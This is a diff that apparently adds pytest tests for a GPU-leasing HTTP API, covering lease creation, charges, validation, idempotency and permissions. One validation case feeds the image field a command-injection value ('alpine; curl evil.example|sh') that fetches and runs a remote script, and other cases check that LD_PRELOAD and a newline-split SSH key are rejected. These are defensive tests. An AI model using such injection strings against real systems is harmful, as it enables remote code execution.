@@ -1,0 +1,230 @@
+"""The doors of leases as a tenant uses them, over HTTP."""
+
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from apikit import clock
+from leasing.models import Allocation, Lease
+from leasing.states import State
+from scheduler import converging
+from tenants.models import Organization, Role
+from tests.factories import NOON, after, hear, make_active_lease, make_host, make_image, make_tenant, place, price, say
+from tests.tenants.conftest import MemberCaller
+
+pytestmark = pytest.mark.django_db
+LEASES = "/api/v1/leases"
+BODY = {"request": "A100_80G x4", "image": "pytorch_latest"}
+
+
+@pytest.fixture(autouse=True)
+def _noon() -> Iterator[None]:
+    with clock.frozen(NOON):
+        yield
+
+
+@pytest.fixture
+def tenant() -> Organization:
+    make_host(gpus=8)
+    price()
+    make_image()
+    return make_tenant()
+
+
+@pytest.fixture
+def caller(tenant: Organization) -> MemberCaller:
+    return MemberCaller(tenant, Role.DEVELOPER)
+
+
+def test_a_lease_from_post_to_charges(caller: MemberCaller) -> None:
+    made = caller.post(LEASES, BODY)
+    assert made.status_code == 201
+    assert made["Location"] == f"/api/v1/leases/{made.json()['id']}"
+    assert made.json()["state"] == "pending"
+    assert made.json()["simulated"] is True
+    lease = Lease.objects.get()
+    place(at=NOON)
+    say(lease, "ready", at=after(2))
+    converging.converge(at=after(2))
+    hear(lease, at=after(62))
+
+    with clock.frozen(after(62)):
+        shown = caller.get(made["Location"]).json()
+        assert shown["state"] == "active"
+        assert shown["members"][0]["state"] == "running"
+        assert len(shown["members"][0]["gpus"]) == 4
+        assert shown["cost"]["billable_seconds"] == 60
+        assert shown["price"] == {
+            "amount": "3.600000", "currency": "XTS", "per": "gpu_hour",
+            "total_per_hour": {"amount": "14.400000", "currency": "XTS"},
+        }  # fmt: skip
+        ended = caller.send("DELETE", made["Location"])
+    assert (ended.status_code, ended.json()["state"]) == (200, "ending")
+    say(lease, "gone", at=after(63))
+    converging.converge(at=after(64))
+
+    charges = caller.get(f"{made['Location']}/charges").json()
+    assert charges["charged"] == {"amount": "0.240000", "currency": "XTS"}
+    assert [(line["seconds"], line["quantity"]) for line in charges["lines"]] == [(60, 4)]
+    events = caller.get(f"{made['Location']}/events").json()["items"]
+    assert [event["to_state"] for event in events] == ["pending", "provisioning", "active", "ending", "ended"]
+
+
+def test_the_four_fields_of_tenants_schedulers_mean_machines(caller: MemberCaller) -> None:
+    asked = {"gpu_model": "A100_80G", "node_count": 4, "image_id": "pytorch_latest", "lease_term": "on_demand"}
+
+    assert caller.post(LEASES, asked).json()["request"] == "4*A100_80G"
+
+
+@pytest.mark.parametrize(
+    ("change", "pointer", "code"),
+    [
+        ({"request": "A100_80G x0"}, "/request", "out_of_range"),
+        ({"request": "B100_80G x1"}, "/request", "unknown_model"),
+        ({"image": "alpine; curl evil.example|sh"}, "/image", "bad_value"),
+        ({"image_id": "pytorch_latest"}, "/image_id", "exactly_one_of"),
+        ({"state": "active"}, "/state", "unknown_field"),
+        ({"env": {"LD_PRELOAD": "x"}}, "/env/LD_PRELOAD", "reserved_name"),
+        ({"command": "python train.py"}, "/command", "wrong_type"),
+        ({"notice_s": "120"}, "/notice_s", "wrong_type"),
+        ({"ssh_keys": ["ssh-ed25519 AAAA\nssh-ed25519 BBBB"]}, "/ssh_keys/0", "bad_value"),
+        ({"constraints": {"max_price": {"amount": "1", "currency": "CNY"}}}, "/constraints/max_price/currency", "bad_value"),
+    ],
+)  # fmt: skip
+def test_bad_input_gets_its_place_and_writes_nothing(
+    caller: MemberCaller, change: dict[str, Any], pointer: str, code: str
+) -> None:
+    refused = caller.post(LEASES, BODY | change)
+
+    assert refused.status_code == 422
+    assert refused["Content-Type"] == "application/problem+json"
+    assert (pointer, code) in [(error["pointer"], error["code"]) for error in refused.json()["errors"]]
+    assert not Lease.objects.exists()
+
+
+def test_an_unknown_model_is_answered_with_the_nearest(caller: MemberCaller) -> None:
+    (error,) = caller.post(LEASES, BODY | {"request": "A100_81G x4"}).json()["errors"]
+
+    assert "A100_80G x4" in error["nearest"] or "A100_80G" in error["nearest"]
+
+
+def test_no_money_is_a_402_that_says_how_much(caller: MemberCaller) -> None:
+    poor = MemberCaller(make_tenant(micros=10_000), Role.DEVELOPER)
+
+    refused = poor.post(LEASES, BODY)
+
+    assert refused.status_code == 402
+    assert refused.json()["type"].endswith("/insufficient-funds")
+    assert not Lease.objects.exists()
+
+
+def test_a_foreign_lease_is_a_404_everywhere(caller: MemberCaller) -> None:
+    lease = make_active_lease()
+    path = f"{LEASES}/{lease.public_id}"
+
+    for answer in (
+        caller.get(path), caller.send("DELETE", path), caller.send("PATCH", path, {"name": "mine"}, **{"If-Match": '"1"'}),
+        caller.post(f"{path}/actions/end", {}), caller.post(f"{path}/actions/extend", {"by_s": 60}),
+        caller.get(f"{path}/events"), caller.get(f"{path}/logs"), caller.get(f"{path}/charges"),
+        caller.get(f"{path}/members"),
+    ):  # fmt: skip
+        assert answer.status_code == 404, answer.request
+    assert caller.get(LEASES).json()["items"] == []
+
+
+def test_now_or_not_at_all_is_a_409_with_reasons_and_keeps_no_row(caller: MemberCaller) -> None:
+    make_active_lease(request="A100_80G x8")
+
+    refused = caller.post(LEASES, BODY | {"if_no_capacity": "refuse"})
+
+    assert refused.status_code == 409
+    assert refused.json()["type"].endswith("/no-capacity")
+    assert refused.json()["reasons"] == [{"code": "busy", "hosts": 1, "need": 4, "have": 0}]
+    assert Lease.objects.count() == 1
+    assert not Allocation.objects.filter(organization_id=caller.organization.pk).exists()
+
+
+def test_a_dry_run_plans_and_writes_nothing(caller: MemberCaller) -> None:
+    answer = caller.post(f"{LEASES}?dry_run=1", BODY | {"term": "2h"})
+
+    plan = answer.json()["plan"]
+    assert answer.status_code == 200
+    assert plan["price_per_hour"] == {"amount": "14.400000", "currency": "XTS"}
+    assert plan["estimated_total"] == {"amount": "28.800000", "currency": "XTS"}
+    assert plan["placement"][0]["gpu_model"] == "A100_80G"
+    assert not Lease.objects.exists()
+
+
+def test_the_same_key_makes_one_lease(caller: MemberCaller) -> None:
+    first = caller.post(LEASES, BODY, **{"Idempotency-Key": "once"})
+    second = caller.post(LEASES, BODY, **{"Idempotency-Key": "once"})
+
+    assert first.content == second.content
+    assert second["Idempotency-Replayed"] == "true"
+    assert Lease.objects.count() == 1
+
+
+def test_ending_twice_is_200_and_another_action_is_409_naming_what_is_valid(caller: MemberCaller) -> None:
+    lease = make_active_lease(caller.organization)
+    path = f"{LEASES}/{lease.public_id}"
+    assert caller.post(f"{path}/actions/end", {}).status_code == 200
+
+    assert caller.post(f"{path}/actions/end", {}).status_code == 200
+    refused = caller.post(f"{path}/actions/extend", {"by_s": 3600})
+
+    assert refused.status_code == 409
+    assert (refused.json()["state"], refused.json()["actions"]) == ("ending", [])
+
+
+def test_extending_moves_the_end(caller: MemberCaller) -> None:
+    lease = make_active_lease(caller.organization, term="2h")
+
+    answer = caller.post(f"{LEASES}/{lease.public_id}/actions/extend", {"by_s": 3600})
+
+    assert answer.json()["term"]["end_at"] == "2027-03-01T15:00:02Z"
+
+
+def test_an_edit_needs_the_version_it_saw(caller: MemberCaller) -> None:
+    lease = make_active_lease(caller.organization)
+    path = f"{LEASES}/{lease.public_id}"
+
+    assert caller.send("PATCH", path, {"name": "n"}).status_code == 428
+    assert caller.send("PATCH", path, {"name": "n"}, **{"If-Match": '"0"'}).status_code == 412
+    etag = caller.get(path)["ETag"]
+    assert caller.send("PATCH", path, {"name": "n"}, **{"If-Match": etag}).json()["name"] == "n"
+
+
+def test_a_viewer_reads_and_does_not_lease(caller: MemberCaller) -> None:
+    viewer = MemberCaller(caller.organization, Role.VIEWER)
+
+    assert viewer.get(LEASES).status_code == 200
+    assert viewer.post(LEASES, BODY).status_code == 403
+
+
+def test_offers_quotes_and_their_redemption(caller: MemberCaller) -> None:
+    (offer,) = caller.get("/api/v1/offers").json()["items"]
+    assert (offer["request"], offer["available"]) == ("A100_80G x8 @sim", 8)
+    quote = caller.post("/api/v1/quotes", {"request": "A100_80G x8", "ttl_s": 60}).json()
+    assert caller.get("/api/v1/offers").json()["items"] == []
+
+    missing = caller.post(LEASES, {"quote": quote["id"]})
+    lease = caller.post(LEASES, {"quote": quote["id"], "image": "pytorch_latest"})
+
+    assert missing.json()["errors"][0]["pointer"] == "/image"
+    assert (lease.status_code, lease.json()["state"]) == (201, "provisioning")
+    assert caller.get(f"/api/v1/quotes/{quote['id']}").json()["lease"] == lease.json()["id"]
+
+
+def test_a_list_costs_the_same_queries_for_one_lease_and_for_twenty(
+    caller: MemberCaller, django_assert_max_num_queries: Any
+) -> None:
+    for _ in range(20):
+        Lease.objects.create(
+            organization=caller.organization, state_since=NOON, request="A100_80G", request_options={"options": []},
+            gpu_count=1, image="x", image_reference="x", currency="XTS", priced_at=NOON, requested_at=NOON,
+            check_at=NOON, state=State.PENDING,
+        )  # fmt: skip
+
+    with django_assert_max_num_queries(10):
+        assert len(caller.get(LEASES).json()["items"]) == 20
